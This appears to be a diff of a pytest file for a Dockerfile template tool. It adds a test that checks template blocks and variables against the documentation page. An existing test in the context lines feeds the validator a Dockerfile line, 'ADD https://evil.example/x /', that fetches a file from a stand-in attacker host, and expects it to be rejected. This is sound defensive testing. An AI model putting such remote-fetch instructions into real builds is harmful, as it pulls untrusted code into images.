@@ -258,3 +258,14 @@ def test_a_site_template_that_would_fetch() -> None:
     """What it adds is looked at as a Dockerfile."""
     with pytest.raises(SpecError, match="TB5231"):
         _site(_EXTENDED.replace("# ours", "ADD https://evil.example/x /"))
+
+
+def test_blocks_and_values_are_documented() -> None:
+    """Who overrides a block finds it in the page, with every value that the template uses."""
+    from jinja2 import Environment, meta
+
+    page = (ROOT / "docs" / "dockerfile.md").read_text("utf-8")
+    parsed = Environment(autoescape=True).parse(TEMPLATE)
+    blocks = set(re.findall(r"{% block (\w+) %}", TEMPLATE))
+    assert blocks == set(re.findall(r"^\| `(\w+)` \|", page, re.MULTILINE))
+    assert meta.find_undeclared_variables(parsed) <= set(re.findall(r"`(\w+)`", page))
